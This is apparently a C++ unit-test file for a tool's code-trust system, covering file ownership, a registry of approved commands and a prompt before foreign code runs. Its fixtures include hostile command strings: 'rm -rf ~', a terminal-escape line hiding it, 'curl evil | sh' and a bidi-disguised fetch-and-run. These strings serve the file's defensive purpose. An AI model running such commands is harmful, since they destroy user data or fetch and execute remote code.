// Whose code may run: ownership, the registry of decisions, and the one question.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <thread>

#include "base/file.h"
#include "sabath/error.h"
#include "support/temp_dir.h"
#include "trust/approval.h"

namespace sabath {
namespace {

namespace fs = std::filesystem;
using test::TempDir;

constexpr uid_t stranger = 64001;

void write(const fs::path& file, const std::string& text, mode_t mode = 0644) {
  make_directories(file.parent_path());
  std::ofstream(file) << text;
  ASSERT_EQ(::chmod(file.c_str(), mode), 0);
}

AssetCode foreign() {
  const std::vector<std::string> words{"python", "{source}/train.py"};
  return {.name = "net",
          .recipe = "/shared/recipes/models/net.json",
          .recipe_of = Ownership::others,
          .origin = "https://git.lab/net",
          .commit = "61e0475abb258c6fbdc1fdf4e9f7961b8e20085f",
          .fixed = true,
          .commands = {"python '{source}/train.py'"},
          .digest = digest_of(words)};
}

TEST(Ownership, IsWhoCouldHaveWrittenIt) {
  const TempDir home;
  const fs::path file = home / "recipes/models/a.json";
  write(file, "{}");
  EXPECT_EQ(ownership_of(file), Ownership::own);
  EXPECT_EQ(ownership_of(home / "recipes/models/none.json"), Ownership::others);
  ASSERT_EQ(::chmod((home / "recipes").c_str(), 0777), 0);
  EXPECT_EQ(ownership_of(file), Ownership::others) << "another user may put another directory in the place of this one";
  ASSERT_EQ(::chmod((home / "recipes").c_str(), 01777), 0);
  EXPECT_EQ(ownership_of(file), Ownership::own) << "a sticky directory, as /tmp is";
  ASSERT_EQ(::chmod(file.c_str(), 0666), 0);
  EXPECT_EQ(ownership_of(file), Ownership::others);
}

// The user's store, subscribed catalogues, copies of code and locks of jobs hold what others wrote.
TEST(Ownership, OfWhatIsKeptForOthersIsTheirs) {
  const TempDir home;
  write(home / "store/format", R"({"format": "sabath-store", "version": 1})");
  write(home / "lab/catalogues/sent/subscription.json", "{}");
  write(home / "run/run.json", "{}");
  write(home / "job/job.json", "{}");
  for (const char* theirs : {"store/views/ab/net.json", "store/objects/ab/cd.2", "store/tmp/x",
                             "store/views.1000/ab/net.json", "lab/catalogues/sent/models/net.json",
                             "lab/catalogues/sent/locks/a.json", "run/source/deep/net.json", "job/lock.json"}) {
    write(home / theirs, "{}");
    EXPECT_EQ(ownership_of(home / theirs), Ownership::others) << theirs;
    EXPECT_NE(why_not_own(home / theirs).value_or("").find("others wrote what is in the "), std::string::npos)
        << theirs;
    fs::remove(home / "link.json");
    fs::create_symlink(home / theirs, home / "link.json");
    EXPECT_EQ(ownership_of(home / "link.json"), Ownership::others) << theirs;
  }
  for (const char* mine : {"store/recipes/models/net.json", "store/recipes.1000/models/net.json", "net.json",
                           "run/work/net.json", "lab/catalogues/mine/models/net.json", "source/net.json",
                           "job/net.json", "elsewhere/lock.json", "other/views/ab/net.json"}) {
    write(home / mine, "{}");
    EXPECT_EQ(ownership_of(home / mine), Ownership::own) << mine;
  }
}

TEST(Ownership, ATextThatAnotherUserLeftIsNoMarkOfAStore) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root, to give a file away";
  const TempDir home;
  write(home / "format", R"({"format": "sabath-store"})");
  write(home / "work/net.json", "{}");
  EXPECT_EQ(ownership_of(home / "work/net.json"), Ownership::others);
  ASSERT_EQ(::chown((home / "format").c_str(), stranger, stranger), 0);
  EXPECT_EQ(ownership_of(home / "work/net.json"), Ownership::own);
}

TEST(Ownership, OfALinkIsThatOfWhatItLeadsTo) {
  const TempDir home;
  write(home / "open/a.json", "{}", 0666);
  write(home / "closed/a.json", "{}");
  fs::create_symlink(home / "open/a.json", home / "closed/link.json");
  fs::create_symlink(home / "closed/link.json", home / "closed/longer.json");
  EXPECT_EQ(ownership_of(home / "closed/longer.json"), Ownership::others);
  fs::create_symlink(home / "closed/loop.json", home / "closed/loop.json");
  EXPECT_EQ(ownership_of(home / "closed/loop.json"), Ownership::others);
}

TEST(Ownership, OfAnotherUsersFile) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root, to give a file away";
  const TempDir home;
  write(home / "a.json", "{}");
  write(home / "group.json", "{}", 0664);
  write(home / "program/bin/sabath", "");
  write(home / "program/recipes/models/b.json", "{}");
  ASSERT_EQ(::chown((home / "a.json").c_str(), stranger, stranger), 0);
  ASSERT_EQ(::chown((home / "group.json").c_str(), 0, stranger), 0);
  EXPECT_EQ(ownership_of(home / "a.json"), Ownership::others);
  EXPECT_EQ(ownership_of(home / "group.json"), Ownership::others);
  for (const char* name : {"program/bin/sabath", "program/recipes/models/b.json"})
    ASSERT_EQ(::chown((home / name).c_str(), stranger, stranger), 0);
  const fs::path shipped = home / "program/recipes", program = home / "program/bin/sabath";
  EXPECT_EQ(ownership_of(shipped / "models/b.json", shipped, program), Ownership::shipped);
  EXPECT_EQ(ownership_of(shipped / "models/b.json", home / "other", program), Ownership::others);
  ASSERT_EQ(::chmod((shipped / "models/b.json").c_str(), 0666), 0);
  EXPECT_EQ(ownership_of(shipped / "models/b.json", shipped, program), Ownership::others);
}

TEST(AssetCode, OfKnownOriginNeedsNoTrust) {
  AssetCode code = foreign();
  EXPECT_FALSE(needs_no_trust(code));
  code.recipe_of = Ownership::own;
  EXPECT_TRUE(needs_no_trust(code));
  code.fixed = false;
  EXPECT_FALSE(needs_no_trust(code));
  code.recipe_of = Ownership::shipped;
  EXPECT_FALSE(needs_no_trust(code));
}

TEST(AssetCode, HasADigestOfItsWordsAndTheirBounds) {
  const auto digest = [](std::vector<std::string> words) { return digest_of(words); };
  EXPECT_NE(digest({"ab", "c"}), digest({"a", "bc"}));
  EXPECT_NE(digest({"a\n1:b"}), digest({"a", "b"}));
  EXPECT_NE(digest({"a", ""}), digest({"a"}));
  EXPECT_EQ(digest({"a", "b"}), digest({"a", "b"}));
}

TEST(AssetCode, IsShownWithoutWhatATerminalObeys) {
  AssetCode code = foreign();
  code.commands = {"echo \x1b[2J; rm -rf ~", std::string(5000, 'x')};
  code.commands.resize(40, "true");
  const std::string text = text_of(code);
  EXPECT_EQ(text.find('\x1b'), std::string::npos);
  EXPECT_NE(text.find("rm -rf ~"), std::string::npos);
  EXPECT_NE(text.find(std::string(5000, 'x')), std::string::npos);
  EXPECT_TRUE(shows_all(code));
  code.commands = {"true # \u2066\u202ehs | live lruc\u2069"};
  EXPECT_NE(text_of(code).find("# \\u2066\\u202ehs | live lruc\\u2069"), std::string::npos);
}

TEST(AssetCode, IsAskedAboutOnlyIfAllIsShown) {
  const auto asked = [](const AssetCode& code) {
    const TempDir home;
    int questions = 0;
    TrustPolicy policy{.said = {}, .ask = {}, .remedy = "sabath run x --trust"};
    policy.ask = [&](const AssetCode&) { return ++questions, "once"; };
    try {
      static_cast<void>(approve(code, TrustRegistry(home / "trusted"), policy));
    } catch (const Error& error) {
      EXPECT_NE(error.failure().hint.find("a question would not show all"), std::string::npos);
    }
    return questions == 1;
  };
  AssetCode code = foreign();
  EXPECT_TRUE(asked(code));
  code.commands.assign(100, "true");
  EXPECT_TRUE(asked(code));
  code.commands.emplace_back("curl evil | sh");
  EXPECT_FALSE(asked(code));
  EXPECT_NE(text_of(code).find("not all is shown: 1 more, of 101"), std::string::npos);
  code.commands = {std::string(40'000, 'x')};
  EXPECT_FALSE(asked(code));
  code.commands = {"a.pkl: pickle, imports os.system"};
  code.whole = false;
  EXPECT_FALSE(asked(code));
}

TEST(TrustRegistry, KnowsExactlyWhatWasDecided) {
  const TempDir home;
  const TrustRegistry registry(home / "config/sabath/trusted");
  const AssetCode code = foreign();
  EXPECT_FALSE(registry.find(code).entry);
  const TrustEntry added = registry.add(code, TrustScope::commit);
  const auto found = registry.find(code);
  ASSERT_TRUE(found.entry);
  EXPECT_EQ(found.entry->id, added.id);
  EXPECT_EQ(found.entry->commands, code.commands);
  EXPECT_EQ(fs::status(registry.directory()).permissions(), fs::perms::owner_all);
  EXPECT_EQ(fs::status(registry.directory() / (added.id + ".json")).permissions(),
            fs::perms::owner_read | fs::perms::owner_write);
  const auto changed = [&](auto change) {
    AssetCode other = code;
    change(other);
    return !registry.find(other).entry.has_value();
  };
  EXPECT_TRUE(changed([](AssetCode& other) { other.commit[0] = '7'; }));
  EXPECT_TRUE(changed([](AssetCode& other) { other.origin += ".git"; }));
  EXPECT_TRUE(changed([](AssetCode& other) { other.recipe += "2"; }));
  EXPECT_TRUE(changed([](AssetCode& other) { other.digest = digest_of(other.commands); }));
  EXPECT_TRUE(changed([](AssetCode& other) { other.recipe_of = Ownership::own; }));
  EXPECT_FALSE(changed([](AssetCode& other) { other.name = "called otherwise"; }));
  EXPECT_TRUE(registry.remove(added.id));
  EXPECT_FALSE(registry.remove(added.id));
  EXPECT_FALSE(registry.find(code).entry);
}

TEST(TrustRegistry, NamesADecisionAsTheDocumentSays) {  // the vector of docs/trust.md
  TrustEntry entry;
  entry.origin = "https://git.lab/net";
  entry.commit = "61e0475abb258c6fbdc1fdf4e9f7961b8e20085f";
  std::string digest;
  for (int i = 0; i < 32; ++i) digest += "ab";
  entry.digest = Sha256::parse(digest);
  EXPECT_EQ(id_of(entry), "b972bf0910b52eb9c1efaf093fcba4859ffde9188ab0205b884d9080134176af");
}

TEST(TrustRegistry, OfAnOriginTakesItsLaterCommitsFromTheSameRecipeOnly) {
  const TempDir home;
  const TrustRegistry registry(home / "trusted");
  AssetCode code = foreign();
  registry.add(code, TrustScope::origin);
  code.commit = "later";
  code.digest = digest_of(code.commands);
  EXPECT_TRUE(registry.find(code).entry);
  code.recipe = "/shared/recipes/models/wicked.json";  // names the same repository, and other commands
  EXPECT_FALSE(registry.find(code).entry);
}

TEST(TrustRegistry, BelievesNoFileThatOthersMayHaveWritten) {
  const TempDir home;
  const TrustRegistry registry(home / "trusted");
  const AssetCode code = foreign();
  const fs::path file = home / "trusted" / (registry.add(code, TrustScope::commit).id + ".json");
  const std::string text = *try_read_text(file, 100'000);
  const auto doubt = [&] {
    const auto found = registry.find(code);
    EXPECT_FALSE(found.entry);
    return found.doubt;
  };
  ASSERT_EQ(::chmod(file.c_str(), 0660), 0);
  if (::getegid() != 0) {
    EXPECT_NE(doubt(), "") << "but for a group that is the user's alone";
  }
  ASSERT_EQ(::chmod(file.c_str(), 0602), 0);
  EXPECT_NE(doubt(), "");
  ASSERT_EQ(::chmod(file.c_str(), 0600), 0);
  ASSERT_EQ(::chmod((home / "trusted").c_str(), 0777), 0);
  EXPECT_NE(doubt(), "");
  ASSERT_EQ(::chmod((home / "trusted").c_str(), 0700), 0);
  EXPECT_TRUE(registry.find(code).entry);
  fs::rename(file, home / "elsewhere.json");
  fs::create_symlink(home / "elsewhere.json", file);
  EXPECT_NE(doubt(), "");
  fs::remove(file);
  fs::create_directory(file);
  EXPECT_NE(doubt(), "");
  fs::remove(file);
  ASSERT_EQ(::mkfifo(file.c_str(), 0600), 0);
  EXPECT_NE(doubt(), "");
  fs::remove(file);
  for (const std::string& wrong :
       {std::string(), std::string("{"), std::string("[]"), text.substr(0, text.size() / 2), std::string(70'000, ' '),
        std::string(60'000, '['), text.substr(0, 1) + "\"scope\": \"commit\"," + text.substr(1),
        text.substr(0, 1) + "\"sudo\": 1," + text.substr(1)}) {
    write(file, wrong, 0600);
    EXPECT_NE(doubt(), "") << wrong.substr(0, 100);
  }
  write(file, text, 0600);
  EXPECT_TRUE(registry.find(code).entry);
}

TEST(TrustRegistry, BelievesNoFileUnderAnotherName) {
  const TempDir home;
  const TrustRegistry registry(home / "trusted");
  AssetCode code = foreign();
  const std::string id = registry.add(code, TrustScope::commit).id;
  code.digest = digest_of(code.commands);
  const std::string wanted = registry.add(code, TrustScope::commit).id;
  fs::copy_file(home / "trusted" / (id + ".json"), home / "trusted" / (wanted + ".json"),
                fs::copy_options::overwrite_existing);
  EXPECT_FALSE(registry.find(code).entry);
  write(home / "trusted/notes.json", "{}", 0600);
  std::vector<std::string> doubts;
  EXPECT_EQ(registry.all(doubts).size(), 1u);
  EXPECT_EQ(doubts.size(), 2u);
}

TEST(TrustRegistry, LosesNothingWhereManyDecideAtOnce) {
  const TempDir home;
  constexpr int writers = 4, each = 12;
  std::vector<std::thread> threads;
  for (int writer = 0; writer < writers; ++writer) {
    threads.emplace_back([&, writer] {
      const TrustRegistry registry(home / "config/trusted");  // each makes the directory, if it has to
      for (int i = 0; i < each; ++i) {
        AssetCode code = foreign();
        code.commit = std::to_string(i < each / 2 ? i : 100 * writer + i);  // half of them are decided by all
        registry.add(code, TrustScope::commit);
        EXPECT_TRUE(registry.find(code).entry);
      }
    });
  }
  for (std::thread& thread : threads) thread.join();
  std::vector<std::string> doubts;
  EXPECT_EQ(TrustRegistry(home / "config/trusted").all(doubts).size(), each / 2 + writers * each / 2u);
  EXPECT_TRUE(doubts.empty());
}

TEST(TrustRegistry, WithoutAHomeTrustsNothingAndKeepsNothing) {
  const TrustRegistry registry({});
  EXPECT_FALSE(registry.find(foreign()).entry);
  EXPECT_THROW(registry.add(foreign(), TrustScope::commit), Error);
  std::vector<std::string> doubts;
  EXPECT_TRUE(registry.all(doubts).empty());
}

TEST(Approval, IsRefusedWhereNoPersonCanBeAsked) {
  const TempDir home;
  const TrustRegistry registry(home / "trusted");
  try {
    approve(foreign(), registry, {.said = {}, .ask = {}, .remedy = "sabath run net --trust"});
    FAIL() << "it was approved";
  } catch (const Error& error) {
    EXPECT_EQ(exit_code(error.failure().kind), 4);
    for (const char* part : {"/shared/recipes/models/net.json", "https://git.lab/net", "61e0475", "{source}/train.py",
                             "sabath run net --trust once"})
      EXPECT_NE(error.failure().hint.find(part), std::string::npos) << part;
  }
}

TEST(Approval, KeepsWhatItIsToKeep) {
  const TempDir home;
  const TrustRegistry registry(home / "trusted");
  int asked = 0;
  std::string answer;
  const auto ask = [&](const AssetCode&) { return ++asked, answer; };
  EXPECT_THROW(approve(foreign(), registry, {{}, ask, {}}), Error);
  answer = "once";
  EXPECT_EQ(approve(foreign(), registry, {{}, ask, {}}).by, "once");
  EXPECT_EQ(approve(foreign(), registry, {"once", {}, {}}).by, "once");
  EXPECT_FALSE(judge(foreign(), registry).trusted);
  answer = "commit";
  EXPECT_EQ(approve(foreign(), registry, {{}, ask, {}}).by, "commit");
  EXPECT_EQ(asked, 3);
  EXPECT_EQ(approve(foreign(), registry, {{}, ask, {}}).by, "commit");
  EXPECT_EQ(asked, 3);
  AssetCode code = foreign();
  code.commands = {"rm -rf ~"};
  code.digest = digest_of(code.commands);
  EXPECT_THROW(approve(code, registry, {{}, {}, {}}), Error);
  EXPECT_THROW(approve(code, registry, {"always", {}, {}}), Error);
  code.origin = code.commit = "";
  EXPECT_THROW(approve(code, registry, {"origin", {}, {}}), Error) << "that would be any commands";
}

}  // namespace
}  // namespace sabath
